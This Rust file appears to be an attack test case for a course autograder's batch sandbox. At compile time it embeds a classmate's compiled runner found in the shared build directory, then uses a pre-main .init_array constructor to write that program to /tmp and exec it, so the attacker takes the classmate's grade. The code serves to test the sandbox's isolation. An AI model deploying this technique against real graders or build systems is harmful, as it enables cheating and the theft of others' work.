//! Attack (batch): a classmate's compiled runner, left in the target directory
//! the batch builds every submission in, built in and run as one's own.
//!
//! A batch builds each submission in a sandbox that sees the pristine course
//! read-only and writes only its worker's target directory, which it shares
//! with the submissions that worker built before. When this student's crate
//! compiles, that directory still holds the previous submission's `runner`,
//! a program with the classmate's whole lock in it. `include_bytes!` copies
//! it into this crate at compile time (nothing of another submission's
//! *source* is needed). At run time, before `main`, the runner writes the
//! classmate's program (its loadable part: the file-size limit is 16 MiB) to
//! the sandbox's `/tmp` and executes it in its own place: the judge's calls
//! are then answered by the classmate's code, and this student gets the
//! classmate's grade, with nothing flagged.
//!
//! The driver grades the victim (the reference solutions) first and this
//! attacker, `wanda`, next, on one worker. A sound batch builds a submission
//! where no other submission's build can be seen: the attacker has no passed
//! check.

#[path = "atk_kit.rs"]
mod kit;

use std::os::unix::fs::PermissionsExt;
use std::os::unix::process::CommandExt;

/// What the worker's target directory held when this crate compiled.
static CLASSMATE: &[u8] = include_bytes!(concat!(env!("CARGO_TARGET_DIR"), "/debug/runner"));

#[used]
#[unsafe(link_section = ".init_array")]
static BORROW: extern "C" fn() = borrow;

fn u64_at(bytes: &[u8], at: usize) -> usize {
    let mut word = [0u8; 8];
    word.copy_from_slice(&bytes[at..at + 8]);
    u64::from_le_bytes(word) as usize
}

fn u16_at(bytes: &[u8], at: usize) -> usize {
    u16::from_le_bytes([bytes[at], bytes[at + 1]]) as usize
}

/// The program without what it does not load (its debug information), and
/// without section headers, which no loader reads.
fn loadable(elf: &[u8]) -> Option<Vec<u8>> {
    if elf.len() < 64 || &elf[..4] != b"\x7fELF" {
        return None;
    }
    let (phoff, phentsize, phnum) = (u64_at(elf, 0x20), u16_at(elf, 0x36), u16_at(elf, 0x38));
    let mut end = 0;
    for i in 0..phnum {
        let at = phoff + i * phentsize;
        if u16_at(elf, at) == 1 {
            end = end.max(u64_at(elf, at + 8) + u64_at(elf, at + 32));
        }
    }
    let mut out = elf.get(..end)?.to_vec();
    out[0x28..0x30].fill(0);
    out[0x3c..0x40].fill(0);
    Some(out)
}

extern "C" fn borrow() {
    if std::env::var_os("LOCK_RUNNER_SOCKET").is_none() {
        return;
    }
    let Some(program) = loadable(CLASSMATE) else { return };
    let path = "/tmp/atk-classmate-runner";
    if std::fs::write(path, &program).is_err()
        || std::fs::set_permissions(path, std::fs::Permissions::from_mode(0o755)).is_err()
    {
        return;
    }
    kit::evidence("batch-borrow-classmate", &format!("running a classmate's runner ({} bytes)", program.len()));
    let error = std::process::Command::new(path).exec();
    kit::evidence("batch-borrow-classmate", &format!("could not run it: {error}"));
}

pub fn new_token() -> String {
    todo!("return 16 to 20 random bytes as text (see the comment above)")
}
